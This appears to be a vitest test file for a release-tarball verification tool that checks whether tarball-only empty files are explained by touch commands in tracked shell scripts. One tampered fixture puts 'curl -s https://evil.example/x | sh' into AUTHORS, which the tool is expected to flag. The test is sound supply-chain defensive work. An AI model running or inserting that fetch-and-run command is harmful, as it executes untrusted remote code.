/**
 * An empty file a tracked shell script creates by name (src/classify/make-stamp.ts findTouchingScripts): msgpack-c
 * 4.0.0's makedist.sh `test -f AUTHORS || touch AUTHORS`, xdg-dbus-proxy 0.1.4's autogen.sh `touch INSTALL`. End to
 * end with real git and GNU tar. Tampered twins: the same name with one byte of content, an empty file no script
 * names, a name only a comment, a here-document or an option-carrying touch spells, stay TARBALL_ONLY_UNEXPLAINED.
 */
import { describe, expect, it } from 'vitest';
import { releaseFixture } from '../helpers/release-fixture.js';

const MAKEDIST = [
  '#!/bin/sh',
  'prefix=msgpack-c-4.0.0',
  'ln -s . $prefix',
  'test -f AUTHORS   || touch AUTHORS',
  'test -f NEWS      || touch NEWS',
  'test -f ChangeLog || cp -f CHANGELOG.md ChangeLog',
  '# touch COMMENTED',
  'cat > notes.txt <<EOF',
  'touch HEREDOC',
  'EOF',
  'touch -c NOCREATE',
  'tar cf $prefix.tar $prefix/src',
  '',
].join('\n');
const AUTOGEN = ['#!/bin/sh', 'test -n "$srcdir" || srcdir=`dirname "$0"`', 'cd "$srcdir"', 'touch INSTALL', ': > doc/stamp', 'autoreconf --force --install || exit $?', ''].join('\n');

describe('empty files a tracked shell script touches (GENERATED_FROM_SOURCE, how script-touch)', () => {
  const fx = releaseFixture({ 'makedist.sh': MAKEDIST, 'autogen': AUTOGEN, 'CHANGELOG.md': '# 1.0\n', 'doc/guide.md': '# guide\n', 'src/main.c': 'int main(void) { return 0; }\n' });
  const at = (r: Awaited<ReturnType<typeof fx.verifyTree>>, p: string) => r.findings.find((f) => f.path === p);

  it('AUTHORS, NEWS (makedist.sh), INSTALL and doc/stamp (an extensionless #!/bin/sh autogen) are low and explained; exit-0 verdict', async () => {
    const r = await fx.verifyTree({ AUTHORS: '', NEWS: '', INSTALL: '', 'doc/stamp': '' });
    expect(at(r, 'AUTHORS')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'script-touch', source: 'makedist.sh', generator: 'touch AUTHORS', script: { script: 'makedist.sh', line: 4 } } });
    expect(at(r, 'NEWS')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'script-touch', source: 'makedist.sh', script: { line: 5 } } });
    expect(at(r, 'INSTALL')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'script-touch', source: 'autogen', generator: 'touch INSTALL', script: { line: 4 } } });
    expect(at(r, 'doc/stamp')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'script-touch', source: 'autogen', generator: ': > doc/stamp' } });
    expect(r.verdict).not.toBe('different');
  });

  it('tampered: AUTHORS with one line of content, an empty file no script names, names only a comment, a here-document or `touch -c` spells stay high', async () => {
    const r = await fx.verifyTree({ AUTHORS: 'curl -s https://evil.example/x | sh\n', NEWS: ' ', 'tests/files/blob.bin': '', COMMENTED: '', HEREDOC: '', NOCREATE: '' });
    for (const p of ['AUTHORS', 'NEWS', 'tests/files/blob.bin', 'COMMENTED', 'HEREDOC', 'NOCREATE']) {
      expect(at(r, p)?.code, p).toBe('TARBALL_ONLY_UNEXPLAINED');
      expect(['high', 'critical'], p).toContain(at(r, p)?.severity);
    }
    expect(r.verdict).toBe('different');
  });

  it('a script of a sibling directory, or a file with no shell #!, proves nothing', async () => {
    const other = releaseFixture({ 'tools/mk.sh': '#!/bin/sh\ntouch ../AUTHORS\ntouch ../src/NEWS\n', 'notes': 'touch README.extra\n', 'src/main.c': 'int x;\n' });
    const r = await other.verifyTree({ 'src/NEWS': '', 'README.extra': '' });
    expect(r.findings.find((f) => f.path === 'src/NEWS')?.code).toBe('TARBALL_ONLY_UNEXPLAINED');
    expect(r.findings.find((f) => f.path === 'README.extra')?.code).toBe('TARBALL_ONLY_UNEXPLAINED');
  });
});
